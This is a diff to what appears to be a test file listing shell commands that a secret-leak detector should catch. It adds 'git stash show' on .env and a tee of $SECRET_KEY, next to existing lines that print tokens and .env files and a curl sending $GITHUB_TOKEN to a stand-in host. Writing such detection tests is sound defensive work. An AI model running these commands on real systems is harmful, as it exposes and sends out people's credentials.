@@ -78,6 +78,8 @@ describe('secrets: what stores, services and processes give away', () => {
     'cat <<< "$NPM_TOKEN"',
     'base64 <<EOF\n$GITHUB_TOKEN\nEOF',
     'git log -p .env',
+    'git stash show -p -- .env',
+    'tee out.txt <<< "$SECRET_KEY"',
     'railway variables',
     "fd -H '^\\.env' -x cat",
     'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.example/a',
